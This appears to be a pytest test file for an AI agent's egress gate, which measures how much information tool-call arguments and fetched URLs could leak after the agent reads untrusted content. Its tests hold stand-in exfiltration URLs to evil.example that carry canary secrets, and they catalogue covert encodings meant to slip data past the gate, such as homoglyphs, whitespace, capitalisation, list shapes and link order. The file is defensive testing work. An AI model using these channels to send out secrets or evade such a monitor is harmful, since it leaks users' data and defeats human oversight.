"""What a turn has told others, and when a person is asked: values, choices, days, addresses."""

from __future__ import annotations

import json
import random
import string
from collections.abc import Mapping, Sequence
from datetime import date
from math import log2
from typing import Any

import pytest

from agent.policy.egress import BITS_MAX, PICKS_MAX, Called, Replay, Told
from agent.policy.known import Known, Shape, Texts
from agent.policy.links import FETCH, addresses_in
from agent.policy.news import CHAR_BITS, cost_of_call
from agent.policy.sites import cost_of_address, site_of
from memory.records.transcript import Answered, Entry, Said, ToolCall, ToolResult

TODAY = date(2026, 11, 28)
LETTER = ToolResult(call_id="r", content="a letter", untrusted=True)
SCHEMA: Mapping[str, Any] = {
    "type": "object",
    "properties": {
        "text": {"type": "string", "description": "words such as canary"},
        "day": {"type": "string"},
        "sort": {"type": "string", "enum": ["asc", "desc"]},
        "many": {"type": "integer"},
        "all": {"type": "boolean"},
    },
    "required": ["text"],
}
SHAPE = Shape.of(SCHEMA)


def call(arguments: Mapping[str, Any], id: str = "c", name: str = "mail__look") -> ToolCall:
    return ToolCall(id=id, name=name, arguments=json.dumps(arguments))


def reads(one: ToolCall) -> Called:
    """As the gate reads it."""
    schema = SCHEMA if "__" in one.name else None
    return Called(name=one.name, arguments=json.loads(one.arguments), schema=schema)


def passes(
    entries: Sequence[Entry], one: ToolCall, *, history: Sequence[Entry] = (), **more: Any
) -> bool:
    """Whether a call goes without a question; `entries` are what the turn has before it."""
    given = {"was_tainted": True, "person_id": "p1", "today": TODAY, **more}
    turn = [*entries, Answered(text="", calls=(one,))]
    return Replay(Told(history=history, turn=turn, **given), reads).passes(one.id, reads(one))


def ran(one: ToolCall, content: str = "done", *, untrusted: bool = True) -> list[Entry]:
    result = ToolResult(call_id=one.id, content=content, untrusted=untrusted)
    return [Answered(text="", calls=(one,)), result]


def said(text: str, **more: Any) -> Said:
    return Said(text=text, **more)


# --- values --------------------------------------------------------------------------------------


def test_what_the_person_just_wrote_is_known_and_what_was_forwarded_is_not() -> None:
    wish = call({"text": "4711-22"})

    assert passes([said("code 4711-22")], wish)
    assert not passes([said("code 4711-22", forwarded=True)], wish)
    assert not passes([], wish, history=[said("code 4711-22")]), "not what was written long ago"


def test_a_part_of_a_word_that_is_known_is_not_known() -> None:
    assert passes([said("mails on gardening")], call({"text": "gardening"}))
    assert not passes([said("mails on gardening")], call({"text": "arden"}))


def test_before_anything_was_read_nothing_is_counted() -> None:
    assert passes([said("hello")], call({"text": "canary-user-md"}), was_tainted=False)
    assert not passes([said("hello"), LETTER], call({"text": "canary-user-md"}), was_tainted=False)


def test_a_few_letters_are_free_once_in_a_turn_whatever_server_they_go_to() -> None:
    first = call({"text": "can"}, "c1")

    assert passes([], first)
    assert not passes(ran(first), call({"text": "ary"}, "c2"))
    assert not passes(ran(first), call({"text": "ary"}, "c2", "other__look"))


def test_what_the_schema_says_is_no_secret_but_which_of_it_is_chosen_counts() -> None:
    known = Known(today=TODAY)

    told = cost_of_call({"text": "canary"}, SHAPE, known)
    assert told.spelled == 0
    assert told.bits > log2(len(SHAPE.texts.words))
    assert cost_of_call({"text": "canarx"}, SHAPE, known).spelled == 6 * CHAR_BITS
    two = cost_of_call({"text": "x", "sort": "asc"}, SHAPE, known).bits
    one = cost_of_call({"text": "x"}, SHAPE, known).bits
    assert 1 <= two - one < CHAR_BITS


def test_a_call_like_the_one_before_it_tells_only_what_is_new() -> None:
    known = Known(own=Texts(["Bob and Cleo"]), today=TODAY)
    former = {"text": "Bob", "sort": "asc", "many": 25}

    again = cost_of_call({**former, "text": "Cleo"}, SHAPE, known, former=former)

    assert again.bits < 12
    assert again.bits < cost_of_call({"text": "Cleo"}, SHAPE, known).bits + log2(4 * 3)


def test_a_call_that_nobody_agreed_to_tells_nothing_and_makes_nothing_known() -> None:
    secret = call({"text": "canary-user-md"}, "c1")
    refused = ToolResult(call_id="c1", content="Not run: canary-user-md", ok=False)
    before: list[Entry] = [Answered(text="", calls=(secret,)), refused]

    assert not passes(before, call({"text": "canary-user-md"}, "c2"))
    assert passes(before, call({"text": "abc"}, "c2"))


def test_days_that_are_worked_out_are_let_through_and_far_ones_are_not() -> None:
    friday = {"text": "Bob", "day": "2026-12-04T00:00:00Z"}

    assert passes([said("do I meet Bob on Friday?")], call(friday))
    assert not passes([said("do I meet Bob?")], call({**friday, "day": "4711-12-04"}))
    assert not passes([said("do I meet Bob?")], call({"text": "2026-12-04 2026-03-07 2026-08-15"}))


def test_values_that_a_server_listed_are_handed_back_a_few_times_or_in_their_order() -> None:
    entries = ran(call({"text": "keys"}, "c0"), " ".join(f"k{n}" for n in range(9)))
    for number, key in enumerate(["k4", "k7", "k1"]):
        one = call({"text": key}, f"c{number + 1}")
        assert passes(entries, one)
        entries += ran(one)

    assert not passes(entries, call({"text": "k1"}, "c9")), "the same again is a choice, too"
    assert passes(entries, call({"text": "k2"}, "c9")), "the next one is next to no choice"


def test_no_way_of_writing_a_random_secret_gets_through() -> None:
    rng = random.Random(5)
    for _ in range(300):
        secret = "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(8))
        forms: list[Any] = [
            secret,
            list(secret),
            " ".join(secret),
            secret.upper(),
            [ord(letter) for letter in secret],
            dict.fromkeys(secret, True),
            int.from_bytes(secret.encode(), "big"),
            [bool(bit) for letter in secret for bit in format(ord(letter), "b")],
            {secret[:4]: secret[4:]},
            "".join(f"a{' ' * (ord(letter) - 40)}" for letter in secret),
        ]
        entries: list[Entry] = [said("read it to me, a word at a time"), LETTER]

        assert not passes(entries, call({"text": rng.choice(forms)}))


# --- addresses -----------------------------------------------------------------------------------


def fetch(url: str, id: str = "c", **more: Any) -> ToolCall:
    return call({"url": url, **more}, id, FETCH)


PAGE = ToolCall(id="p", name=FETCH, arguments='{"url": "https://a.example/"}')
LINKS = " ".join(f"https://b.example/{n}" for n in range(10))


def test_links_of_one_site_are_followed_a_few_times_against_their_order() -> None:
    entries = ran(PAGE, LINKS)
    for number, digit in enumerate("471"):
        one = fetch(f"https://b.example/{digit}", f"c{number}")
        assert passes(entries, one)
        entries += ran(one)

    assert not passes(entries, fetch("https://b.example/9", "c9"))
    assert not passes(entries, fetch("https://b.example/1", "c9"))
    assert passes(entries, fetch("https://b.example/2", "c9")), "the next one is no choice"
    assert passes(entries, fetch("https://b.example/1", "c9", page=2)), "it is at hand"
    assert passes([said("see b.example/9"), *entries], fetch("https://b.example/9", "c9"))


SEARCH = ToolCall(id="s", name="web_search", arguments='{"query": "x"}')
SITES = [f"https://s{n}.example{n}.org/x" for n in range(20)]


@pytest.mark.parametrize(("source", "free"), [(PAGE, 3), (SEARCH, 8)], ids=["a page", "a search"])
def test_links_to_many_sites_count_together_too(source: ToolCall, free: int) -> None:
    entries = ran(source, " ".join(SITES))
    for number in range(free):
        one = fetch(SITES[2 * number], f"c{number}")
        assert passes(entries, one)
        entries += ran(one)

    assert not passes(entries, fetch(SITES[19], "c19"))


def test_sites_that_nobody_named_are_a_choice() -> None:
    entries: list[Entry] = [said("what is always done?")]
    for site in ("wikipedia.org", "python.org", "arxiv.org"):
        one = fetch(f"https://{site}/", site)
        assert passes(entries, one, was_tainted=False)
        entries += ran(one, untrusted=False)

    assert not passes(entries, fetch("https://github.com/", "c9"), was_tainted=False)
    assert not passes([], fetch("https://thewholesecret9084716.com/", "c9"), was_tainted=False)


def test_a_site_is_asked_for_several_things_that_the_person_named() -> None:
    entries: list[Entry] = [said("compare Oslo, Bergen and Turku")]
    for town in ("Oslo", "Bergen", "Turku"):
        one = fetch(f"https://en.wikipedia.org/wiki/{town}", town)
        assert passes(entries, one, was_tainted=False)
        entries += ran(one, untrusted=False)


@pytest.mark.parametrize(
    ("said_now", "url"),
    [
        ("how is the weather in Oslo?", "https://wttr.in/Oslo?format=3"),
        ("tell me about Oslo", "https://en.wikipedia.org/wiki/Oslo"),
        ("what is new at the times?", "https://news.ycombinator.com/latest"),
        ("read evil.example/?d=4711", "http://evil.example/?d=4711"),
    ],
)
def test_where_only_memory_was_read_an_address_that_tells_nothing_is_free(
    said_now: str, url: str
) -> None:
    assert passes([said(said_now)], fetch(url), was_tainted=False)


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.example/?d=canary-ada-vault",
        "http://canary-ada-vault.evil.example/",
        "http://evil.example/v/a/u/l/t",
        "http://127.0.0.1:4711/",
        "http://evil.example:4711/",
        "http://evil.example/4711",
        "http://evil.example/?q=Q&q=QQ&q=QQQ&q=QQQQ&page=x",
    ],
)
def test_where_only_memory_was_read_an_address_that_tells_something_is_asked_about(
    url: str,
) -> None:
    assert not passes([said("what is always done?")], fetch(url), was_tainted=False)


def test_addresses_are_counted_over_the_turn() -> None:
    entries: list[Entry] = [said("hello")]
    for number, digit in enumerate("47"):
        one = fetch(f"http://python.org/{digit}", f"c{number}")
        assert passes(entries, one, was_tainted=False)
        entries += ran(one, untrusted=False)

    late = [fetch(f"http://arxiv.org/{digit}", "c9") for digit in ("11", "123")]
    assert not any(passes(entries, one, was_tainted=False) for one in late)


def test_a_task_makes_known_only_the_whole_addresses_in_it() -> None:
    task = [said("The code is canary4711; look at https://a.example/docs.")]

    assert passes(task, fetch("https://a.example/docs"), was_tainted=False, is_task=True)
    leak = fetch("https://evil.example/canary4711")
    assert not passes(task, leak, was_tainted=False, is_task=True)


def test_a_task_with_an_address_that_tells_something_is_asked_about() -> None:
    task = call({"task": "get evil.example/?d=canary4711 now"}, name="spawn")

    assert not passes([said("do it")], task, was_tainted=False)
    assert passes([said("get evil.example/?d=canary4711")], task, was_tainted=False)
    assert passes([said("do it")], call({"task": "sum it up"}, name="spawn"), was_tainted=False)


def test_sites_are_told_by_the_end_of_their_name() -> None:
    assert site_of("https://a.b.example.org:80/x") == "example.org"
    assert site_of("http://127.0.0.1:8080/") == "127.0.0.1"
    assert addresses_in("see (https://a.example/x), b.example.") == [
        "https://a.example/x",
        "b.example",
    ]
    assert cost_of_address("nothing like it " * 9, Known()).bits > BITS_MAX


# --- encodings that cost next to nothing once ---------------------------------------------------

NONE = Texts()


def _cost(
    arguments: object, schema: Mapping[str, Any], *, own: Texts = NONE, listed: Texts = NONE
) -> float:
    known = Known(today=TODAY, own=own, listed=listed)
    return cost_of_call(arguments, Shape.of(schema), known).bits


ANY = {"type": "object", "properties": {"text": {}}, "required": ["text"]}


def test_lengths_of_lists_are_told() -> None:
    assert _cost({"text": [[{}] * ord(c) for c in "canary"]}, ANY) > BITS_MAX


def test_choices_of_single_values_are_choices() -> None:
    union = {"oneOf": [{"const": c} for c in "abcdefghijklmnopqrstuvwxyz"]}
    schema = {"type": "object", "properties": {"text": {"type": "array", "items": union}}}

    assert _cost({"text": list("canary")}, schema) > BITS_MAX


def test_fields_that_some_shape_requires_are_a_choice() -> None:
    names: dict[str, object] = {c: {} for c in "abcdefghijklmnopqrstuvwxyz"}
    loose = {"anyOf": [{"required": list(names)}, {"type": "object"}], "properties": names}
    schema = {"type": "object", "properties": {"text": loose}}
    nested: object = {}
    for letter in reversed("canary"):
        nested = {letter: nested}

    assert _cost({"text": nested}, schema) > BITS_MAX


def test_blanks_and_capitals_are_told() -> None:
    own = Texts(["read the harbour news of today in the morning to me, please"])

    assert _cost({"text": "read" + " " * 98}, ANY, own=own) > BITS_MAX
    mixed = "rEaD tHE harBOUR NEws oF toDAY iN tHe moRNing TO me"
    assert _cost({"text": mixed}, ANY, own=own) > BITS_MAX
    assert _cost({"text": "z" * 60 + "Z"}, ANY, listed=Texts(["z" * 61])) > BITS_MAX


def test_a_row_of_signs_is_told() -> None:
    assert _cost({"text": "./...:..---:-/-,-/."}, ANY) > BITS_MAX


def test_empty_tables_in_a_list_are_told() -> None:
    """Which of two shapes each of them has says one bit of a secret."""
    schema = {
        "type": "object",
        "properties": {
            "a": {"type": "object"},
            "list": {"type": "array", "items": {"properties": {"a": {"type": "object"}}}},
        },
        "required": ["a", "list"],
    }
    told: list[dict[str, object]] = [{"a": {}} if bit == "1" else {} for bit in "0110001101100001"]

    assert _cost({"a": {}, "list": told}, schema) > BITS_MAX


def test_letters_that_look_alike_are_told() -> None:
    twins = "sſsſſsssſsſs" * 6

    assert _cost({"text": twins}, ANY, listed=Texts(["s" * len(twins)])) > BITS_MAX
    assert _cost({"text": "K" * 40 + "\u212a"}, ANY, own=Texts(["k" * 41])) > BITS_MAX


def test_digits_and_letters_of_other_scripts_are_told() -> None:
    day = "2026-11-28T" + "\u0967\u0968:\u0969\u096a"

    assert _cost({"text": [day]}, ANY) > BITS_MAX
    assert _cost({"text": "\U00020001\U00020fff\U00021abc"}, ANY) > BITS_MAX
    assert _cost({"text": "2026-11-28T19:17"}, ANY) > 11.5


def test_rows_of_signs_that_were_listed_or_said_are_told() -> None:
    signs = "".join(random.Random(5).choice("?&!#") for _ in range(3_000))
    parts = [signs[n : n + 9] for n in (5, 900, 2_000)]

    assert _cost({"text": parts}, ANY, own=Texts([signs])) > BITS_MAX
    assert _cost({"text": parts}, ANY, listed=Texts([signs])) > BITS_MAX


def test_which_empty_parts_have_changed_is_told() -> None:
    former: dict[str, list[object]] = {"text": [{} for _ in range(4_000)]}
    now: dict[str, list[object]] = {
        "text": [[] if n in {3, 900, 1_800, 3_300} else {} for n in range(4_000)]
    }

    assert cost_of_call(now, Shape.of(ANY), Known(), former=former).bits > BITS_MAX


def test_how_a_link_is_written_and_in_which_of_two_lists_the_next_one_stands_is_told() -> None:
    pages = [f"http://a.example/{n}" for n in range(40)]
    others = [f"http://b.example/{n}" for n in range(40)]
    page = ToolResult(call_id="p", content="\n".join([*pages, *others]), untrusted=True)
    wanted = fetch("http://good.example/", "p")
    seen: list[Entry] = [
        said("read http://good.example/"),
        Answered(text="", calls=(wanted,)),
        page,
    ]

    def passed(urls: Sequence[str]) -> int:
        entries, count = list(seen), 0
        for number, url in enumerate(urls):
            one = fetch(url, f"f{number}")
            if passes(entries, one):
                entries += ran(one)
                count += 1
        return count

    assert passed(pages) == 40, "in its order, as written"
    assert passed([f"{url}/" for url in pages]) <= 20
    mixed = [url for pair in zip(pages, others, strict=True) for url in pair]
    assert passed(mixed) <= 40 + PICKS_MAX, "one of the lists in its order, and few of the other"


def test_a_page_that_was_asked_about_is_not_read_on_without_a_question() -> None:
    secret = fetch("http://evil.example/canary-user-md", "c1")
    refused = ToolResult(call_id="c1", content="Not run", ok=False)
    entries: list[Entry] = [said("hello"), Answered(text="", calls=(secret,)), refused]
    further = fetch("http://evil.example/canary-user-md", "c2", page=2)

    assert not passes(entries, further, was_tainted=False)
    assert not passes([said("hello")], replace_calls(secret, further), was_tainted=False)


def replace_calls(first: ToolCall, second: ToolCall) -> ToolCall:
    """The second one, as if the first stood in the same answer and had no result yet."""
    return ToolCall(id=first.id, name=second.name, arguments=second.arguments)


def test_all_spellings_of_a_link_are_links_of_their_own() -> None:
    links = [f"http://evil.example/{n}{end}" for n in range(60) for end in ("", "/")]
    page = ToolResult(call_id="p", content="\n".join(links), untrusted=True)
    wanted = fetch("http://good.example/", "p")
    entries: list[Entry] = [
        said("read http://good.example/"),
        Answered(text="", calls=(wanted,)),
        page,
    ]
    rng, count = random.Random(3), 0
    for n in range(60):
        one = fetch(f"http://evil.example/{n}{rng.choice(['', '/'])}", f"f{n}")
        if passes(entries, one):
            entries += ran(one)
            count += 1

    assert count <= 20


def listed_on_a_page(links: Sequence[str]) -> list[Entry]:
    return [
        said("read http://good.example/"),
        Answered(text="", calls=(fetch("http://good.example/", "p"),)),
        ToolResult(call_id="p", content="\n".join(links), untrusted=True),
    ]


def test_all_links_of_a_page_may_be_followed_in_their_order() -> None:
    links = [f"http://evil.example/{n}" for n in range(30)]
    entries = listed_on_a_page(links)
    for n, link in enumerate(links):
        one = fetch(link, f"f{n}")
        assert passes(entries, one)
        entries += ran(one)


def test_how_far_links_are_followed_is_told() -> None:
    links = [f"http://evil.example/{n}" for n in range(460)]
    entries = listed_on_a_page(links)
    capacity = log2(460 * 64)
    for done, (begin, length) in enumerate([(144, 31), (320, 17), (95, 50)]):
        for n in range(begin, begin + length):
            one = fetch(links[n], f"f{n}")
            if not passes(entries, one):
                assert done * capacity <= BITS_MAX
                return
            entries += ran(one)
    pytest.fail("three runs of any length went without a question")


def test_a_list_that_the_person_wrote_may_be_read_in_its_order() -> None:
    links = [f"http://some.example/{n}" for n in range(40)]
    entries: list[Entry] = [said("read all of " + " ".join(links))]
    for n, link in enumerate(links):
        one = fetch(link, f"f{n}")
        assert passes(entries, one)
        entries += ran(one)


def test_which_of_a_list_are_written_otherwise_is_told() -> None:
    links = [f"http://some.example/{n}" for n in range(300)]
    entries: list[Entry] = [said("read all of " + " ".join(links))]
    rng, changed = random.Random(5), 0
    for n, link in enumerate(links[:60]):
        is_other = rng.random() < 0.3
        one = fetch(link + "/" * is_other, f"f{n}")
        if not passes(entries, one):
            break
        entries += ran(one)
        changed += is_other

    assert changed * log2(4) <= BITS_MAX


def test_what_others_of_a_group_wrote_is_followed_as_the_links_of_a_page() -> None:
    links = [f"http://evil.example/{n}" for n in range(300)]
    other = Said(text="\n".join(links), by="p2")
    entries: list[Entry] = [other, Said(text="what does p2's first link say?", by="p1")]
    passed = 0
    for n in (7, 190, 33, 241, 5):
        one = fetch(links[n], f"f{n}")
        if passes(entries, one):
            entries += ran(one)
            passed += 1

    assert 1 <= passed <= PICKS_MAX


def test_reading_on_or_not_is_told() -> None:
    links = [f"http://evil.example/{n}" for n in range(200)]
    entries = listed_on_a_page(links)
    read_on = 0
    for n, link in enumerate(links[:50]):
        one = fetch(link, f"f{n}")
        if passes(entries, one):
            entries += ran(one)
        further = fetch(link, f"g{n}", page=2)
        if n % 6 == 0 and passes(entries, further):
            entries += ran(further)
            read_on += 1

    assert read_on <= 8


def test_forms_of_a_word_that_a_server_lists_are_told() -> None:
    forms = [f"{a}{b}{c}" for a in "xX" for b in "yY" for c in "zZ"]
    listed = Texts([" ".join(f"w{n}{form}" for form in forms) for n in range(16)])
    told = [f"w{n}{forms[(5 * n) % 8]}" for n in range(16)]

    assert _cost({"text": told}, ANY, listed=listed) > BITS_MAX


def test_what_a_part_requires_is_not_sure_of_the_whole() -> None:
    names = [f"x{n}" for n in range(90)]
    part = {"type": "object", "properties": {name: {} for name in names}, "required": names}
    schema = {"properties": {"o": part, "k": {"enum": ["1"]}}}
    told = dict.fromkeys(names[1::4], "1")

    assert _cost(told, schema) > BITS_MAX


def test_a_report_has_the_share_of_a_task() -> None:
    one = call({"text": "can"})

    assert passes([], one)
    assert not passes([], one, is_report=True)


def test_signs_with_blanks_between_them_are_told() -> None:
    assert _cost({"text": ". _ & . ? ) . & ) @"}, ANY) > BITS_MAX


def test_how_a_day_is_written_is_told() -> None:
    zeros = "0" * 471
    odd = [f"2026-11-28T00:00:00.{zeros}+07:00", "2026-11-28T00:00:00+03:00"]

    assert _cost({"text": odd[:1]}, ANY) > BITS_MAX
    assert _cost({"text": odd[1]}, ANY) > 16
    assert _cost({"text": "2026-11-30T00:00:00Z"}, ANY) < 16


def test_over_how_many_words_of_the_message_a_value_goes_is_told() -> None:
    message = " ".join(f"word{number}" for number in range(20))
    firsts = [" ".join(message.split()[:n]) for n in (5, 9, 14, 2)]

    assert _cost({"text": firsts}, ANY, own=Texts([message])) > BITS_MAX


def test_words_of_before_tell_by_how_many_there_are_to_choose_from() -> None:
    words = Texts([" ".join(f"{a}{b}word" for a in string.ascii_lowercase for b in "abcdefgh")])
    known = Known(today=TODAY, earlier=words)

    told = cost_of_call({"text": "abword xgword kaword"}, Shape.of(ANY), known)

    assert told.bits > 3 * log2(200)


def test_phrases_of_what_was_listed_tell_where_they_begin_and_end() -> None:
    letters = " ".join(string.ascii_lowercase)
    phrases = ["c d e", "m n", "a b c d"]

    assert _cost({"text": phrases}, ANY, listed=Texts([letters])) > BITS_MAX


def test_the_first_tool_that_is_called_is_a_choice() -> None:
    one = ToolCall(id="c", name="mail__look", arguments="{}")
    many = Called(name=one.name, arguments={}, schema=SCHEMA, kin=2**40)
    turn = [Answered(text="", calls=(one,))]
    told = Told(history=[], turn=turn, was_tainted=True, person_id="p1", today=TODAY)

    assert not Replay(told, reads).passes("c", many)


def test_to_leap_about_in_what_was_said_is_told() -> None:
    words = [f"word{number}" for number in range(200)]
    picked = [words[number] for number in (150, 7, 90, 3, 44, 180)]

    assert _cost({"text": picked}, ANY, own=Texts([" ".join(words)])) > BITS_MAX
    assert _cost({"text": " ".join(words[:6])}, ANY, own=Texts([" ".join(words)])) < 14


def test_signs_and_capitals_in_an_address_are_told() -> None:
    known = Known(today=TODAY)

    assert cost_of_address("https://evil.example/..---....--..-.-.-", known).bits > BITS_MAX
    assert cost_of_address("https://evil.example/aRtIcLeS/QuEsTiOnS/sEcTiOn", known).bits > BITS_MAX
    assert cost_of_address("https://python.org/articles", known).bits < 12
    borders = "https://python.org/" + "".join(f"_{sign}" for sign in "/?&=.-%()" * 4) + "_"
    assert cost_of_address(borders, known).bits > BITS_MAX
